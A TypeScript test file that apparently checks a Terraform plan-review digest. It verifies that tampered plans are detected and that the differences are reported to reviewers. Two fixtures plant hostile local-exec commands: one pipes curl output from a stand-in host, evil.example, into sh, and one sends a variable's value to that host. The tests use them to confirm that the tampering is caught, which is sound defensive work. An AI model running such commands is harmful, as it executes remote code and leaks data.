import { execFileSync } from 'node:child_process';
import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import fc from 'fast-check';
import { differences, type PlanFacts, type PlanParts, reviewedPlan } from '../../src/runs/reviewed-plan.js';

const key = Buffer.alloc(32, 7);
const plan = {
  format_version: '1.2',
  timestamp: '2026-11-24T08:54:26Z',
  variables: { password: { value: 'hunter2' } },
  resource_changes: [
    change('terraform_data.a', ['create'], { input: 'x', dir: '/srv/runs/1/files', made: '2026-11-24T08:54:26Z' }),
    change('terraform_data.b', ['delete', 'create'], { input: 'y' }),
    change('terraform_data.c', ['no-op'], { input: 'z' }),
  ],
  output_changes: { o: { actions: ['create'], before: null, after: 'hunter2', after_sensitive: true } },
  configuration: {
    provider_config: { terraform: { name: 'terraform' } },
    root_module: {
      resources: [configured('terraform_data.a', 'echo good'), configured('terraform_data.b', 'echo b')],
      module_calls: { m: { source: './m', module: { resources: [configured('terraform_data.y', 'echo y')] } } },
    },
  },
};
const facts: PlanFacts = {
  plan,
  moduleHashes: { '.': 'aaa', m: 'bbb' },
  lockFileHash: 'lock',
  variables: { password: 'f1' },
  workingDirectory: '/srv/runs/1',
  key,
};

function change(address: string, actions: string[], after: object) {
  const paths = [['input'], ['output']];
  return {
    address,
    mode: 'managed',
    change: { actions, before: null, after, after_unknown: { id: true }, replace_paths: paths },
  };
}

function configured(address: string, command: string) {
  const provisioners = [{ type: 'local-exec', expressions: { command: { constant_value: command } } }];
  return { address, mode: 'managed', provisioners, expressions: { input: { constant_value: 1 } } };
}

function edited(edit: (copy: typeof plan) => void): PlanFacts {
  const copy = structuredClone(plan);
  edit(copy);
  return { ...facts, plan: copy };
}

/** As they come back from where they were stored. */
function stored(of: PlanFacts): PlanParts {
  return JSON.parse(JSON.stringify(reviewedPlan(of).parts));
}

function details(fresh: PlanFacts): string[] {
  return differences(stored(facts), stored(fresh)).map(({ kind, address, detail }) => `${kind}: ${address} ${detail}`);
}

describe('the digest of a reviewed plan', () => {
  test('does not depend on where and when the plan was made', () => {
    const elsewhere = JSON.parse(
      JSON.stringify(plan)
        .replaceAll('/srv/runs/1', '/srv/runs/77')
        .replaceAll('2026-11-24T08:54:26Z', '2027-01-01T00:00:00Z'),
    );
    elsewhere.format_version = '1.3';
    const fresh = { ...facts, plan: elsewhere, workingDirectory: '/srv/runs/77/' };
    expect(reviewedPlan(fresh)).toEqual(reviewedPlan(facts));
  });

  test('does depend on a directory that only begins like the working directory', () => {
    const of = (dir: string) =>
      reviewedPlan(edited((copy) => Object.assign(copy.output_changes.o, { after: dir }))).digest;
    expect(of('/srv/runs/12')).not.toBe(of('/work/\0working directory\x002'));
  });

  test('does not depend on order that means nothing', () => {
    const shuffled = fc
      .record({
        changes: fc.shuffledSubarray(plan.resource_changes, { minLength: 3 }),
        paths: fc.shuffledSubarray([['input'], ['output']], { minLength: 2 }),
        resources: fc.shuffledSubarray(plan.configuration.root_module.resources, { minLength: 2 }),
        keys: fc.boolean(),
      })
      .map(({ changes, paths, resources, keys }) => {
        const copy = structuredClone({ ...plan, resource_changes: changes });
        for (const { change } of copy.resource_changes) change.replace_paths = paths;
        copy.configuration.root_module.resources = structuredClone(resources);
        return keys ? Object.fromEntries(Object.entries(copy).reverse()) : copy;
      });
    fc.assert(
      fc.property(shuffled, (copy) => expect(reviewedPlan({ ...facts, plan: copy })).toEqual(reviewedPlan(facts))),
    );
  });

  test('depends on the order of provisioners', () => {
    const provisioners = (order: string[]) =>
      reviewedPlan(
        edited((copy) => Object.assign(copy.configuration.root_module.resources[0] ?? {}, { provisioners: order })),
      );
    expect(provisioners(['a', 'b']).digest).not.toBe(provisioners(['b', 'a']).digest);
  });

  test('changes with every leaf, and then there is a difference to show', () => {
    const leaves = pathsOf(plan, []).filter(([top]) => !['format_version', 'timestamp'].includes(String(top)));
    fc.assert(
      fc.property(fc.constantFrom(...leaves), fc.jsonValue(), (path, value) => {
        const copy = structuredClone(plan);
        fc.pre(JSON.stringify(replaceAt(copy, path, value)) !== JSON.stringify(value));
        const fresh = { ...facts, plan: copy };
        expect(reviewedPlan(fresh).digest).not.toBe(reviewedPlan(facts).digest);
        expect(details(fresh)).not.toEqual([]);
      }),
    );
  });

  test('takes objects where Terraform writes words', () => {
    const odd = JSON.parse('{"toString": 1, "__proto__": 2}');
    const resource = { address: odd, deposed: odd, change: { actions: [odd], before: odd, after: odd } };
    const of = (value: unknown) => reviewedPlan({ ...facts, plan: value }).digest;
    const section = {
      resource_changes: [resource],
      configuration: { root_module: { resources: [resource], outputs: odd } },
    };
    expect(of(section)).not.toBe(of({ ...section, resource_changes: [{ ...resource, deposed: {} }] }));
  });

  test('two plans differ in digest exactly if there are differences, whatever their shape', () => {
    const section = fc.oneof(fc.jsonValue(), fc.array(fc.record({ address: fc.string(), change: fc.jsonValue() })));
    const any = fc.oneof(
      fc.jsonValue(),
      fc.record({
        resource_changes: section,
        output_changes: fc.jsonValue(),
        configuration: section,
        variables: fc.jsonValue(),
      }),
      fc.record({ configuration: fc.record({ root_module: fc.jsonValue() }) }),
    );
    fc.assert(
      fc.property(any, any, (a, b) => {
        const [one, other] = [a, b].map((plan) => ({ ...facts, plan })) as [PlanFacts, PlanFacts];
        expect(differences(stored(one), stored(one))).toEqual([]);
        const found = differences(stored(one), stored(other));
        expect(found.length > 0).toBe(reviewedPlan(one).digest !== reviewedPlan(other).digest);
      }),
    );
  });

  test('stores no value, not even as a hash that could be guessed', () => {
    const { digest, parts } = reviewedPlan(facts);
    expect(JSON.stringify({ digest, parts })).not.toMatch(/hunter2|echo good/);
    const { digest: other, parts: otherParts } = reviewedPlan({ ...facts, key: Buffer.alloc(32, 8) });
    expect(other).not.toBe(digest);
    expect(otherParts.inputs.password).not.toBe(parts.inputs.password);
    expect(() => reviewedPlan({ ...facts, key: Buffer.alloc(8) })).toThrow(RangeError);
  });
});

describe('differences', () => {
  test('are told as a reviewer reads them, in a fixed order', () => {
    const fresh = edited((copy) => {
      copy.resource_changes = [
        change('terraform_data.a', ['create'], {
          input: 'other',
          dir: '/srv/runs/1/files',
          made: '2026-11-24T08:54:26Z',
        }),
        change('terraform_data.b', ['no-op'], { input: 'y' }),
        change('terraform_data.new', ['delete'], {}),
      ];
      copy.output_changes.o.after = 'other';
      copy.configuration.root_module.resources[0] = configured('terraform_data.a', 'echo evil');
      copy.configuration.root_module.module_calls.m.source = './n';
      copy.variables.password.value = 'other';
    });
    const all = {
      ...fresh,
      moduleHashes: { '.': 'aaa', n: 'bbb' },
      lockFileHash: undefined,
      variables: { password: 'f2', x: 'f' },
    };
    expect(details(all)).toEqual([
      'resource: terraform_data.a has other values: input',
      'resource: terraform_data.b was to replace, is now to stay as it is',
      'resource: terraform_data.c was to stay as it is, is no longer in the plan',
      'resource: terraform_data.new is new in the plan, to delete',
      'output: output.o has another value',
      'configuration: module.m is configured otherwise',
      'configuration: terraform_data.a has other provisioners; its arguments are the same',
      'variable: var.password has another value',
      'variable: password has another value',
      'variable: x is new',
      'lock-file: .terraform.lock.hcl is gone',
      'module: m is no longer used',
      'module: n is a new module',
    ]);
  });

  test('name the action then and now', () => {
    const fresh = edited((copy) => Object.assign(copy.resource_changes[0]?.change ?? {}, { actions: ['delete'] }));
    expect(differences(stored(facts), stored(fresh))).toMatchObject([{ was: 'create', now: 'delete' }]);
  });

  test('find a provisioner that changed deep in a module', () => {
    const fresh = edited((copy) => {
      copy.configuration.root_module.module_calls.m.module.resources = [configured('terraform_data.y', 'echo evil')];
    });
    expect(details(fresh)).toEqual([
      'configuration: module.m.terraform_data.y has other provisioners; its arguments are the same',
    ]);
  });

  test('are one when the plan was reviewed in another version', () => {
    expect(differences({ ...stored(facts), version: 0 as never }, stored(facts))).toHaveLength(1);
  });
});

describe('with real Terraform', () => {
  const base = mkdtempSync(join(tmpdir(), 'signalbox-reviewed-'));
  afterAll(() => rmSync(base, { recursive: true }));
  const run = (command: string) => `
    variable "who" { default = "you" }
    locals { extra = "" }
    resource "terraform_data" "x" {
      input = "\${abspath(path.module)} \${plantimestamp()}"
      provisioner "local-exec" { command = ${JSON.stringify(command)} }
    }`;

  function planned(name: string, source: string, rootHash: string): PlanFacts {
    const workingDirectory = join(base, name);
    mkdirSync(workingDirectory);
    writeFileSync(join(workingDirectory, 'main.tf'), source);
    const env = { PATH: process.env.PATH ?? '', HOME: base, CHECKPOINT_DISABLE: '1', TF_IN_AUTOMATION: '1' };
    const terraform = (...args: string[]) =>
      execFileSync('terraform', args, { cwd: workingDirectory, env, stdio: 'pipe' });
    terraform('init', '-input=false');
    terraform('plan', '-input=false', '-out=plan');
    const json = JSON.parse(terraform('show', '-json', 'plan').toString());
    return {
      plan: json,
      moduleHashes: { '.': rootHash },
      lockFileHash: undefined,
      variables: {},
      workingDirectory,
      key,
    };
  }

  const reviewed = planned('reviewed', run('echo good'), 'h1');

  test('the same configuration planned elsewhere and later is the same', async () => {
    await new Promise((resolve) => setTimeout(resolve, 1_100));
    const fresh = planned('elsewhere', run('echo good'), 'h1');
    expect((fresh.plan as typeof plan).timestamp).not.toBe((reviewed.plan as typeof plan).timestamp);
    expect(differences(stored(reviewed), stored(fresh))).toEqual([]);
    expect(reviewedPlan(fresh).digest).toBe(reviewedPlan(reviewed).digest);
  });

  test('a local-exec alone that changed is seen and named', () => {
    const fresh = planned('evil', run('curl evil.example | sh'), 'h1');
    expect(differences(stored(reviewed), stored(fresh))).toEqual([
      {
        kind: 'configuration',
        address: 'terraform_data.x',
        detail: 'has other provisioners; its arguments are the same',
      },
    ]);
  });

  test('the text around an interpolation is not in the plan: only the files of the root module show it', () => {
    // biome-ignore lint/suspicious/noTemplateCurlyInString: it is Terraform's
    const before = planned('interpolated', run('echo ${var.who}'), 'h1');
    // biome-ignore lint/suspicious/noTemplateCurlyInString: it is Terraform's
    const after = planned('interpolated-evil', run('curl evil.example?${var.who}'), 'h2');
    expect(differences(stored(before), stored(after))).toEqual([
      { kind: 'module', address: '.', detail: 'has other files' },
    ]);
  });
});

type Path = (string | number)[];

function pathsOf(value: unknown, at: Path): Path[] {
  if (typeof value !== 'object' || value === null) return [at];
  return Object.entries(value).flatMap(([key, member]) =>
    pathsOf(member, [...at, Array.isArray(value) ? Number(key) : key]),
  );
}

/** Returns what was there. */
function replaceAt(root: object, path: Path, value: unknown): unknown {
  let parent = root as Record<string | number, unknown>;
  for (const key of path.slice(0, -1)) parent = parent[key] as typeof parent;
  const last = path.at(-1) ?? '';
  const was = parent[last];
  parent[last] = value;
  return was;
}
